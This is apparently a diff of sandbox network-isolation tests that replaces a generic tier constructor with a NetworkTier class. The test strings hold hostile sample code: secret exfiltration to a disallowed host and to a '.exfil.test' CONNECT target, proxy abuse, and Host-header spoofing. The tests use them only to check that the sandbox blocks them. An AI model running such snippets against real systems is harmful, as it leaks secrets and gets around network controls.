@@ -314,6 +314,7 @@ def test_broken_input(sb, host, name, code, verdicts):
 
 # --- tiers, quotas and the audit log (nbs/02a_isolation) -------------------------------------------------------------
 import http.server, shutil as _shutil
+from rlkit.agents.tiers import NetworkTier
 from rlkit.isolation import Tier
 
 FETCH = "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url, timeout=5).read().decode()\n"
@@ -373,7 +374,7 @@ def _net(sb, host, code, tests, tier, verdicts, entry="fetch"):
 def test_network_tier_reaches_an_allowed_host(net_sb, host, servers):
     allowed, denied, _ = servers
     r = _net(net_sb, host, FETCH, f"assert fetch('http://127.0.0.1:{allowed.port}/hi') == 'allowed'",
-             Tier("network", (f"127.0.0.1:{allowed.port}",)), {"passed"})
+             NetworkTier((f"127.0.0.1:{allowed.port}",)), {"passed"})
     assert allowed.seen == [("GET", "/hi")] and r.audit["network"][0]["allowed"] and not r.audit["flags"]
 
 
@@ -384,7 +385,7 @@ def test_exfiltration_to_a_host_not_allowed(net_sb, host, servers):
             "    try: urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=5)\n"
             "    except Exception as e: pass\n    return 'allowed'\n")
     r = _net(net_sb, host, code, f"assert fetch('http://127.0.0.1:{denied.port}/steal') == 'allowed'",
-             Tier("network", (f"127.0.0.1:{allowed.port}",)), {"violation"})
+             NetworkTier((f"127.0.0.1:{allowed.port}",)), {"violation"})
     assert denied.seen == [] and [e["allowed"] for e in r.audit["network"]] == [False]
 
 
@@ -406,7 +407,7 @@ def test_dns_lookups_are_not_a_side_channel(net_sb, host, servers, monkeypatch):
             f"    s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'CONNECT {SECRET[:20]}.exfil.test:443 "
             "HTTP/1.1\\r\\n\\r\\n')\n"
             f"    return s.recv(100).decode()\n")
-    for tier in (Tier("network", (f"127.0.0.1:{allowed.port}",)), Tier()):
+    for tier in (NetworkTier((f"127.0.0.1:{allowed.port}",)), Tier()):
         r = _net(net_sb, host, code, "assert '200' in fetch('x')", tier, {"violation", "error"})
         assert r.verdict != "passed"
     try:
@@ -422,7 +423,7 @@ def test_connect_to_an_allowed_host_on_another_port(net_sb, host, servers):
     code = (f"import socket\ndef fetch(url):\n    s = socket.create_connection(('127.0.0.1', 3128))\n"
             f"    s.sendall(b'CONNECT 127.0.0.1:{denied.port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n')\n"
             "    return s.recv(1000).decode()\n")
-    r = _net(net_sb, host, code, "assert 'denied' in fetch('x')", Tier("network", (f"127.0.0.1:{allowed.port}",)),
+    r = _net(net_sb, host, code, "assert 'denied' in fetch('x')", NetworkTier((f"127.0.0.1:{allowed.port}",)),
              {"violation"})
     assert denied.seen == [] and r.audit["network"][0]["port"] == denied.port and not r.audit["network"][0]["allowed"]
 
@@ -438,7 +439,7 @@ def test_requests_to_the_trusted_sides_own_ports(net_sb, host, servers):
             "        except Exception: pass\n"
             f"    try: socket.create_connection(('127.0.0.1', {p}), timeout=2).sendall(b'GET /direct "
             "HTTP/1.0\\r\\n\\r\\n')\n    except OSError: pass\n    return got\n")
-    r = _net(net_sb, host, code, f"assert fetch({urls!r}) == []", Tier("network", (f"127.0.0.1:{allowed.port}",)),
+    r = _net(net_sb, host, code, f"assert fetch({urls!r}) == []", NetworkTier((f"127.0.0.1:{allowed.port}",)),
              {"violation"})
     assert (trusted.seen == [] and len(r.audit["network"]) == len(urls)
             and not any(e["allowed"] for e in r.audit["network"]))
@@ -459,7 +460,7 @@ def test_abuse_of_the_proxy_socket(net_sb, host, servers):
             # wait until the proxy has turned the last one away
             "    socks[-1].settimeout(3)\n    try: socks[-1].recv(1)\n    except OSError: pass\n"
             "    return len(socks)\n")
-    tier, threads = Tier("network", (f"127.0.0.1:{allowed.port}",)), threading.active_count()
+    tier, threads = NetworkTier((f"127.0.0.1:{allowed.port}",)), threading.active_count()
     t0 = time.time()
     r = _net(net_sb, host, code, "assert abuse() > 0", tier, {"violation"})
     assert time.time() - t0 < 8, "stalled connections held the trusted side"
@@ -656,7 +657,7 @@ def test_the_proxy_sends_the_allowed_host_whatever_host_header_the_code_wrote(ne
                 "urllib.request.urlopen(urllib.request.Request(url, headers={'Host': 'internal-admin.corp'}), "
                 "timeout=5).read().decode()\n")
         _net(net_sb, host, code, f"assert fetch('http://127.0.0.1:{port}/a') == 'ok'",
-             Tier("network", (f"127.0.0.1:{port}",)), {"passed"})
+             NetworkTier((f"127.0.0.1:{port}",)), {"passed"})
     finally:
         srv.shutdown()
         srv.server_close()
